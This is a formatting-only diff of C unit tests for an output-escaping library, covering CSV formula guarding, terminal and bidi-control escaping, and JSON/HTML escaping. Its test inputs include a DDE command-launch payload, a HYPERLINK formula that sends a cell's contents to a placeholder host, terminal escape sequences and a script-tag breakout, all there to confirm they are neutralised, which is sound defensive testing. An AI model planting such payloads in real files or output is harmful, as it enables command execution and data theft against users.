@@ -37,10 +37,9 @@ static void assert_esc(const char *s, veilig_format format, unsigned flags, cons
 /* ---- CSV ---- */
 
 START_TEST(test_csv_needs_guard) {
-    static const char *const guarded[] = {"=1+1", "+31 6", "-5", "@SUM(A1)", "\tx", "\rx", "'x",
-                                          "'", "="};
-    static const char *const plain[] = {"", "a=1", " =1", "1-2", "x@y", "\"=1\"", "\n=1", "€",
-                                        "#"};
+    static const char *const guarded[] = {"=1+1", "+31 6", "-5", "@SUM(A1)", "\tx",
+                                          "\rx",  "'x",    "'",  "="};
+    static const char *const plain[] = {"", "a=1", " =1", "1-2", "x@y", "\"=1\"", "\n=1", "€", "#"};
     for (size_t i = 0; i < N(guarded); i++)
         ck_assert_msg(vg_csv_needs_guard(guarded[i]), "\"%s\" needs the guard", guarded[i]);
     for (size_t i = 0; i < N(plain); i++)
@@ -69,9 +68,24 @@ static const char *unguard(const char *cell) {
 }
 
 START_TEST(test_csv_round_trip) {
-    static const char *const texts[] = {
-        "=cmd|' /C calc'!A0", "+1", "-1", "@x", "\t=1", "\r\n", "'", "''", "'=1", "'a",
-        "a'",                 "",   "=",  "x", "-",   "'-",   "'''=", "\"=1\""};
+    static const char *const texts[] = {"=cmd|' /C calc'!A0",
+                                        "+1",
+                                        "-1",
+                                        "@x",
+                                        "\t=1",
+                                        "\r\n",
+                                        "'",
+                                        "''",
+                                        "'=1",
+                                        "'a",
+                                        "a'",
+                                        "",
+                                        "=",
+                                        "x",
+                                        "-",
+                                        "'-",
+                                        "'''=",
+                                        "\"=1\""};
     for (size_t i = 0; i < N(texts); i++) {
         vg_buf b;
         vg_buf_init(&b);
@@ -91,8 +105,8 @@ START_TEST(test_csv_round_trip) {
             }
             cell[k] = '\0';
         }
-        ck_assert_msg(strcmp(unguard(cell), texts[i]) == 0, "\"%s\" came back as \"%s\"",
-                      texts[i], unguard(cell));
+        ck_assert_msg(strcmp(unguard(cell), texts[i]) == 0, "\"%s\" came back as \"%s\"", texts[i],
+                      unguard(cell));
         /* and a spreadsheet sees no formula */
         ck_assert_msg(!strchr("=+-@", cell[0]) || !cell[0], "\"%s\" begins a formula", cell);
         free(cell);
@@ -104,19 +118,21 @@ END_TEST
 /* ---- terminal text ---- */
 
 START_TEST(test_text_escapes) {
-    assert_esc("a\x1b]0;title\x07\x1b[2Jb", VEILIG_FORMAT_TEXT, 0,
-               "a\\x1b]0;title\\x07\\x1b[2Jb");
+    assert_esc("a\x1b]0;title\x07\x1b[2Jb", VEILIG_FORMAT_TEXT, 0, "a\\x1b]0;title\\x07\\x1b[2Jb");
     assert_esc("x\x7fy", VEILIG_FORMAT_TEXT, 0, "x\\x7fy");
-    assert_esc("c1 \xc2\x9b" "31m", VEILIG_FORMAT_TEXT, 0, "c1 \\u009b31m");
-    assert_esc("abc\xe2\x80\xae" "fed", VEILIG_FORMAT_TEXT, 0, "abc\\u202efed");
+    assert_esc("c1 \xc2\x9b"
+               "31m",
+               VEILIG_FORMAT_TEXT, 0, "c1 \\u009b31m");
+    assert_esc("abc\xe2\x80\xae"
+               "fed",
+               VEILIG_FORMAT_TEXT, 0, "abc\\u202efed");
     assert_esc("\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad\xe2\x81\xa6\xe2\x81\xa7\xe2\x81"
                "\xa8\xe2\x81\xa9",
                VEILIG_FORMAT_TEXT, 0, "\\u202a\\u202b\\u202c\\u202d\\u2066\\u2067\\u2068\\u2069");
     assert_esc("line\nbreak\ttab\rcr", VEILIG_FORMAT_TEXT, 0, "line\\nbreak\\ttab\\rcr");
     assert_esc("not utf-8: \xff\xc0", VEILIG_FORMAT_TEXT, 0, "not utf-8: \\xff\\xc0");
     /* what a terminal shows as it is stays */
-    assert_esc("café ’s avonds 日本 😀 \\x1b", VEILIG_FORMAT_TEXT, 0,
-               "café ’s avonds 日本 😀 \\x1b");
+    assert_esc("café ’s avonds 日本 😀 \\x1b", VEILIG_FORMAT_TEXT, 0, "café ’s avonds 日本 😀 \\x1b");
     /* U+200E and U+2028 are not controls the rule or the escaping name */
     assert_esc("\xe2\x80\x8e\xe2\x80\xa8", VEILIG_FORMAT_TEXT, 0, "\xe2\x80\x8e\xe2\x80\xa8");
 }
@@ -139,19 +155,23 @@ START_TEST(test_term_width) {
         size_t width;
     } cases[] = {
         {"abc", 3},
-        {"a\x1b" "b", 6},               /* \x1b */
-        {"\xe2\x80\xae", 6},            /* \u202e */
-        {"\xc2\x9b", 6},                /* \u009b */
-        {"a\nb", 3},                    /* a space */
-        {"caf\xc3\xa9", 4},             /* é */
-        {"cafe\xcc\x81", 4},            /* e and a combining accent */
-        {"日本", 4},                    /* wide */
-        {"😀", 2},                      /* emoji */
-        {"\xf0\xa0\x80\x80", 2},        /* U+20000, plane 2 */
-        {"\xf3\xa0\x80\x81", 0},        /* U+E0001, a tag */
-        {"\xf4\x8f\xbf\xbd", 1},        /* U+10FFFD, plane 16 */
-        {"a\xe2\x80\x8b" "b", 2},       /* a zero-width space */
-        {"\xff", 4},                    /* \xff */
+        {"a\x1b"
+         "b",
+         6},                     /* \x1b */
+        {"\xe2\x80\xae", 6},     /* \u202e */
+        {"\xc2\x9b", 6},         /* \u009b */
+        {"a\nb", 3},             /* a space */
+        {"caf\xc3\xa9", 4},      /* é */
+        {"cafe\xcc\x81", 4},     /* e and a combining accent */
+        {"日本", 4},             /* wide */
+        {"😀", 2},                /* emoji */
+        {"\xf0\xa0\x80\x80", 2}, /* U+20000, plane 2 */
+        {"\xf3\xa0\x80\x81", 0}, /* U+E0001, a tag */
+        {"\xf4\x8f\xbf\xbd", 1}, /* U+10FFFD, plane 16 */
+        {"a\xe2\x80\x8b"
+         "b",
+         2},         /* a zero-width space */
+        {"\xff", 4}, /* \xff */
     };
     for (size_t i = 0; i < N(cases); i++)
         ck_assert_msg(vg_term_widths(cases[i].s) == cases[i].width, "case %zu: width %zu, not %zu",
@@ -216,8 +236,7 @@ END_TEST
 /* ---- JSON, HTML, arguments ---- */
 
 START_TEST(test_json_html) {
-    assert_esc("a\"b\\c\x1b</script>", VEILIG_FORMAT_JSON, 0,
-               "\"a\\\"b\\\\c\\u001b</script>\"");
+    assert_esc("a\"b\\c\x1b</script>", VEILIG_FORMAT_JSON, 0, "\"a\\\"b\\\\c\\u001b</script>\"");
     assert_esc("<b onclick=\"x\">&'\x1b\x7f", VEILIG_FORMAT_HTML, 0,
                "&lt;b onclick=&quot;x&quot;&gt;&amp;&#39;");
 }
@@ -340,8 +359,8 @@ START_TEST(test_every_format_of_a_municipality) {
     /* CSV: the formula guarded */
     o.format = VEILIG_FORMAT_CSV;
     OK(veilig_render_municipality(&out, NULL, m, &o));
-    ck_assert_msg(strstr(out, "\"'=HYPERLINK(\"\"http://x?x=\"\"&A1,\"\"klik\"\")\"") != NULL,
-                  "%s", out);
+    ck_assert_msg(strstr(out, "\"'=HYPERLINK(\"\"http://x?x=\"\"&A1,\"\"klik\"\")\"") != NULL, "%s",
+                  out);
     ck_assert_msg(strstr(out, ",12.50,") != NULL, "%s", out);
     ck_assert_msg(strstr(out, ",'-2+3") == NULL, "partners hold ids: %s", out);
     veilig_free(out);
